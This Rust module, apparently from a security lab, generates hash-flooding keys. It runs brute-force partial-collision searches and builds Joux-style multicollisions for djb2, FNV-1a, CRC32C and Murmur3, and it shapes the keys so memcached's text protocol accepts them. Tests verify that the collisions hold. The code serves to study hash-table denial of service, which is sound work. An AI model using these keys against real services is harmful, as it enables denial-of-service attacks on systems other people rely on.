//! Keys that collide on purpose, as sent by an attacker with knowledge of the hash function.
//!
//! Two ways. A **search** tries keys until enough share the bits that a table looks at: it works
//! against every function whose seed is known, and needs 2^bits tries a key. A **multicollision**
//! finds two short blocks that lead from one state of the function to the same next state, and again
//! from there; n such pairs make 2^n keys with one hash (Joux, "Multicollisions in Iterated Hash
//! Functions", 2004), all of whose 32 bits agree, whatever the table looks at:
//!
//! ```text
//!            ┌─ block a ─┐      ┌─ block c ─┐            a c   a d   b c   b d
//!   start ───┤           ├──▶ s ┤           ├──▶ t  ──▶  all have the hash of t
//!            └─ block b ─┘      └─ block d ─┘
//! ```
//!
//! No key has blanks or control characters in it, so that memcached's text protocol carries them all;
//! all but Murmur3's are printable ASCII.

use std::collections::HashMap;

use crate::hash::widen::low_half;
use crate::hash::{HashRow, djb2, fnv, murmur3};

/// Keys of a multicollision.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Flood {
    /// Different keys.
    pub keys: Vec<Vec<u8>>,
    /// Low bits of the hash, as tables get it, that are the same for all.
    pub bits: u32,
    /// Whether they collide under every seed.
    pub every_seed: bool,
}

/// Up to `count` keys `user%016d` that share the low `bits` bits of their hashes with the first
/// of them, found among the first `tries`. Expect a key in 2^`bits` tries.
///
/// # Panics
/// If `bits` is above 63.
#[must_use]
pub fn search(hash: impl Fn(&[u8]) -> u64, bits: u32, count: usize, tries: u64) -> Vec<Vec<u8>> {
    assert!(bits < 64, "a search for {bits} bits does not end");
    let mask = (1 << bits) - 1;
    let mut key = *b"user0000000000000000";
    let target = hash(&key) & mask;
    let mut found = Vec::new();
    for _ in 0..tries {
        if found.len() == count {
            break;
        }
        if hash(&key) & mask == target {
            found.push(key.to_vec());
        }
        increment(&mut key);
    }
    found
}

/// Adds one to the decimal number that a key ends with.
fn increment(key: &mut [u8]) {
    for digit in key.iter_mut().rev() {
        if *digit != b'9' {
            *digit += 1;
            return;
        }
        *digit = b'0';
    }
}

/// `count` keys that collide in all bits of a 32-bit function, or the low 32 of FNV-1a's 64, which
/// carries nothing downwards, and of identity. Nothing for functions without such a weakness known to this lab.
///
/// # Panics
/// If `count` is above 2^32, or 2^21 for identity.
#[must_use]
pub fn multicollision(row: &HashRow, count: usize) -> Option<Flood> {
    assert!(count <= 1 << 32, "keys beyond what is enumerated");
    let pairs = count.next_power_of_two().ilog2() as usize;
    if row.name == "identity" {
        return Some(identity_flood(count));
    }
    let (blocks, bits, every_seed) = match row.name {
        // 33 · 'E' + 'z' = 33 · 'F' + 'Y', whatever was before.
        "djb2" => (vec![[b"Ez".to_vec(), b"FY".to_vec()]; pairs], 64, true),
        "fnv1a-32" => (chain(fnv::BASIS_32, fnv::step_32, pairs), 64, true),
        "fnv1a-64" => {
            let step = |state, block: &[u8]| low_half(fnv::step_64(u64::from(state), block));
            (chain(low_half(fnv::BASIS_64), step, pairs), 32, true)
        }
        // The crate's function takes the checksum so far and gives the one after.
        "crc32c" => (chain(0, crc32c::crc32c_append, pairs), 64, true),
        "murmur3-32" => (vec![murmur3_blocks(); pairs], 64, true),
        _ => return None,
    };
    debug_assert_eq!(blocks.len(), pairs);
    debug_assert_eq!(djb2::step(0, b"Ez"), djb2::step(0, b"FY"));
    let key = |n: usize| {
        let choices = blocks
            .iter()
            .enumerate()
            .map(|(at, pair)| &pair[n >> at & 1]);
        choices.flatten().copied().collect()
    };
    Some(Flood {
        keys: (0..count).map(key).collect(),
        bits,
        every_seed,
    })
}

/// Multiples of 2^32, whose low halves are zero. Sixteen digits hold 2^21 of them.
fn identity_flood(count: usize) -> Flood {
    assert!(count <= 1 << 21, "numbers beyond sixteen digits");
    Flood {
        keys: (0..count as u64)
            .map(|n| format!("user{:016}", n << 32).into_bytes())
            .collect(),
        bits: 32,
        every_seed: true,
    }
}

/// Two blocks of equal length that lead from one state to the same.
type Pair = [Vec<u8>; 2];

/// Pairs for a function whose whole state is 32 bits, each found by a birthday search: of about
/// 2^16 blocks two meet.
fn chain(start: u32, step: impl Fn(u32, &[u8]) -> u32, pairs: usize) -> Vec<Pair> {
    let mut state = start;
    let mut found = Vec::with_capacity(pairs);
    for _ in 0..pairs {
        let mut reached = HashMap::new();
        let (pair, next) = (0..)
            .find_map(|n: u32| {
                let next = step(state, &word(n));
                let earlier = reached.insert(next, n)?;
                Some(([word(earlier).to_vec(), word(n).to_vec()], next))
            })
            .expect("2^32 states cannot keep 2^32 + 1 blocks apart");
        found.push(pair);
        state = next;
    }
    found
}

/// Seven letters that stand for a number: base 26, with room for 2^32. Multiplied by a number that
/// has no factor in common with 26, so that neighbours differ in all letters: a checksum keeps words
/// apart that differ in a few adjacent ones.
fn word(n: u32) -> [u8; 7] {
    const ROOM: u64 = 26u64.pow(7);
    let mut rest = u64::from(n) * 0x6b43_a9b5 % ROOM;
    [(); 7].map(|()| {
        let letter = b'a' + (rest % 26) as u8;
        rest /= 26;
        letter
    })
}

/// Two double blocks that Murmur3 cannot tell apart in any state: a difference of one bit in the first
/// block, once scrambled, is rotated to the top of the state, where neither the times 5 nor the
/// addition that follow can spread it, and the same bit of the second block takes it away again
/// (Aumasson, Bernstein and Boßlet, "Hash-flooding `DoS` reloaded", 2012).
fn murmur3_blocks() -> Pair {
    /// Rotated left by 13, this is the top bit.
    const FIRST: u32 = 1 << 18;
    const SECOND: u32 = 1 << 31;
    let [a, b] = carried_pair(FIRST);
    let [c, d] = carried_pair(SECOND);
    [[a, c].concat(), [b, d].concat()]
}

/// Whether a byte is neither blank nor control character.
fn carried(byte: u8) -> bool {
    byte > b' ' && byte != 0x7f
}

/// Two blocks of bytes that a protocol carries, which differ by `difference` once scrambled.
fn carried_pair(difference: u32) -> [[u8; 4]; 2] {
    let carries = |block: u32| block.to_le_bytes().into_iter().all(carried);
    let (a, b) = (0..=u32::MAX)
        .map(|scrambled: u32| {
            let other = murmur3::unscramble(scrambled ^ difference);
            (murmur3::unscramble(scrambled), other)
        })
        .find(|&(a, b)| carries(a) && carries(b))
        .expect("one in three pairs is carried");
    [a.to_le_bytes(), b.to_le_bytes()]
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::hash;

    #[test]
    fn multicollisions_collide() {
        let mut weak = Vec::new();
        for row in hash::HASHES {
            let Some(flood) = multicollision(row, 1000) else {
                continue;
            };
            weak.push(row.name);
            assert_eq!(
                flood.keys.iter().collect::<HashSet<_>>().len(),
                1000,
                "{}",
                row.name
            );
            let carries = |key: &Vec<u8>| key.iter().copied().all(carried);
            assert!(flood.keys.iter().all(carries), "{}", row.name);
            // memcached's longest key.
            assert!(
                flood.keys.iter().all(|key| key.len() <= 250),
                "{}",
                row.name
            );
            let mask = u64::MAX >> (64 - flood.bits);
            let seeds = if flood.every_seed { 0..10 } else { 0..1 };
            for seed in seeds.map(|n| super::super::split_mix(1, n)) {
                let hashes = flood
                    .keys
                    .iter()
                    .map(|key| (row.function)(key, [seed, 1]) & mask);
                let distinct: HashSet<u64> = hashes.collect();
                assert_eq!(distinct.len(), 1, "{} under {seed:x}", row.name);
            }
        }
        assert_eq!(
            weak,
            [
                "identity",
                "murmur3-32",
                "fnv1a-32",
                "fnv1a-64",
                "djb2",
                "crc32c"
            ]
        );
    }

    #[test]
    fn small_floods() {
        let row = hash::find("djb2").unwrap();
        assert_eq!(multicollision(row, 1).unwrap().keys, [b""]);
        assert_eq!(multicollision(row, 2).unwrap().keys, [b"Ez", b"FY"]);
        assert_eq!(multicollision(row, 0).unwrap().keys, [b""; 0]);
    }

    #[test]
    fn a_search_finds_what_collides() {
        for name in ["xxh3", "rustc-hash", "lookup3", "identity"] {
            let row = hash::find(name).unwrap();
            let hash = |key: &[u8]| (row.function)(key, [1, 2]);
            let keys = search(hash, 12, 16, 1 << 20);
            assert_eq!(keys.iter().collect::<HashSet<_>>().len(), 16, "{name}");
            let low: HashSet<u64> = keys.iter().map(|key| hash(key) & 0xfff).collect();
            assert_eq!(low.len(), 1, "{name}");
        }
        // It gives up.
        assert!(search(|_| 0, 16, 9, 4).len() == 4 && search(|_| 0, 16, 3, 9).len() == 3);
        assert_eq!(search(|key| u64::from(key[19]), 16, 9, 10).len(), 1);
        let mut key = *b"user0999";
        increment(&mut key);
        assert_eq!(&key, b"user1000");
    }
}
